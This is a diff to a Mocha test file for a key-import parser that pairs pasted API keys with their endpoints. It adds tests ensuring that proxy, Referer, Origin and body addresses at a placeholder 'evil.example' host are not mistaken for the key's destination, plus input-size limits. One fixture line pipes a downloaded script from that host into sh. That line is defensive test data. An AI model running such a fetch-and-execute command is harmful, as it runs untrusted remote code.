@@ -1,6 +1,6 @@
-import { deepStrictEqual, strictEqual } from 'node:assert';
+import { deepStrictEqual, strictEqual, throws } from 'node:assert';
 import { describe, it } from 'mocha';
-import type { FoundKey } from '../../../../src/services/importing/foundKey.ts';
+import { type FoundKey, UnreadableFileError } from '../../../../src/services/importing/foundKey.ts';
 import { parsePastedText } from '../../../../src/services/importing/parsePastedText.ts';
 
 const A = 'sk-aaaa1111bbbb2222cccc';
@@ -82,6 +82,36 @@ describe('pasted text', () => {
     ]);
   });
 
+  it('is cURL commands: an address in an option is not where the header goes', () => {
+    const header = `-H "Authorization: Bearer ${A}"`;
+    const commands = [
+      `curl -x http://10.0.0.1:7890 https://one.example/v1 ${header}`,
+      `curl --proxy=http://10.0.0.1:7890 https://one.example/v1 ${header}`,
+      `curl -H "Referer: https://evil.example/" ${header} https://one.example/v1`,
+      `curl -e https://evil.example ${header} --url https://one.example/v1`,
+      `curl -d '{"url":"https://evil.example"}' https://one.example/v1 ${header}`,
+      `curl ^\n  -H ^"Origin: https://evil.example^" ^\n  ${header} ^\n  https://one.example/v1`,
+      `curl -sSL -XPOST -k "https://one.example/v1" ${header}`,
+    ];
+    for (const command of commands)
+      deepStrictEqual(pairsIn(command), [[A, 'https://one.example/v1']], command);
+  });
+
+  it('is cURL commands: what follows one is no part of it, and two addresses are none', () => {
+    const header = `"Authorization: Bearer ${A}"`;
+    const texts = [
+      `curl https://evil.example && http https://one.example ${header}`,
+      `curl https://evil.example https://one.example -H ${header}`,
+    ];
+    for (const text of texts)
+      for (const { address } of parsePastedText(text)) strictEqual(address, undefined, text);
+  });
+
+  it('is cURL commands: a header of the next line belongs to that line', () => {
+    const text = `curl https://evil.example/install.sh | sh\nwget --header "Authorization: Bearer ${A}" https://one.example`;
+    deepStrictEqual(pairsIn(text), [[A, 'https://one.example']]);
+  });
+
   it('is JSON of any form: an address counts within its own object', () => {
     const text = JSON.stringify({
       providers: [
@@ -157,6 +187,25 @@ describe('pasted text', () => {
       deepStrictEqual(parsePastedText(text), [] satisfies FoundKey[]);
     });
   }
+
+  it('does not hang on a long text of white space', () => {
+    for (const space of ['\n', '\n ', ' \n', '\t', '\r\n', '\n[a]\n'])
+      strictEqual(parsePastedText(`x${space.repeat(150_000)}y`).length, 0);
+  });
+
+  it('is not looked for in more than a million characters', () => {
+    const reason = (error: unknown) => error instanceof UnreadableFileError && error.reason === 'too-large';
+    strictEqual(parsePastedText(`${'.'.repeat(999_000)} ${A}`).length, 1);
+    throws(() => parsePastedText(`${'.'.repeat(1_000_000)} ${A}`), reason);
+  });
+
+  it('is not more than a thousand keys', () => {
+    const reason = (error: unknown) => error instanceof UnreadableFileError && error.reason === 'too-large';
+    const keys = (count: number) =>
+      Array.from({ length: count }, (_, at) => `sk-aaaa1111bbbb${at}`).join('\n');
+    strictEqual(parsePastedText(keys(1000)).length, 1000);
+    throws(() => parsePastedText(keys(1001)), reason);
+  });
 
   it('does not hang on a long text without spaces', () => {
     strictEqual(parsePastedText('a.'.repeat(200_000)).length, 0);
